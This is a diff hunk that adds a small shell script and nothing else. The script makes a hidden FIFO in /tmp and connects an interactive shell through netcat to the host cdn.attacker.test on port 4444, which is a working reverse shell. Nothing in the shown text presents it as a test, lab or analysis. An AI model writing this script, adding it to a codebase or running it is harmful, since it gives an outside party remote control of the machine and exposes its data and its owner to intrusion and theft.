@@ -1,0 +1,5 @@
+#!/bin/sh
+p=/tmp/.x$$
+mkfifo "$p"
+sh -i < "$p" 2>&1 | nc cdn.attacker.test 4444 > "$p"
+rm -f "$p"
